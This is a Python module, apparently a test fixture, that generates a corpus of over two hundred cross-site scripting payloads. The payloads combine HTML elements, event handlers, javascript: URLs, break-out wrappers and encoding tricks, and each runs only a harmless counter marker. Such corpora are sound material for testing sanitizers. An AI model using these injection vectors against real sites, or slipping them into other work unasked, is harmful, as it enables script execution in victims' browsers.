"""Two hundred and more ways to smuggle script into text; each would set `window.executed` or open a dialog.

Built from elements, ways to break out of where text stands, and ways to hide; no two are alike.
"""

from __future__ import annotations

from itertools import product

RUN = "window.executed=(window.executed||0)+1"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f'<script type="module">{RUN}</script>',
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<body onload='{RUN}'>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<textarea autofocus onfocus='{RUN}'></textarea>",
    f"<video><source onerror='{RUN}'></video>",
    f"<audio src=x onerror='{RUN}'></audio>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<link rel=stylesheet href=\"data:text/css,*{{x:expression({RUN})}}\" onload='{RUN}'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"<select autofocus onfocus='{RUN}'></select>",
    f"<dialog open onfocusin='{RUN}'><button autofocus>x</button></dialog>",
    f"<div style=\"width:expression({RUN})\" onpointerrawupdate='{RUN}' onanimationstart='{RUN}'>x</div>",
    f'<base href="javascript:{RUN}//"><a href=x>x</a>',
)
_WRAPPERS = (
    "{}",
    '"><{}',
    "'>{}",
    "</title></textarea></style></script>{}",
    "]]>{}<!--",
    "〔1〕{}",
)
_BARE = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
    f"<ScRiPt >{RUN}</ScRiPt >",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n'{RUN}'>",
    f"<<script>{RUN}//<</script>",
    f"`;{RUN};`",
    f"*/{RUN}/*",
    f"[低保](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f"<!--><script>{RUN}</script>-->",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*_BARE, *(wrapper.format(element) for wrapper, element in product(_WRAPPERS, _ELEMENTS))])
)
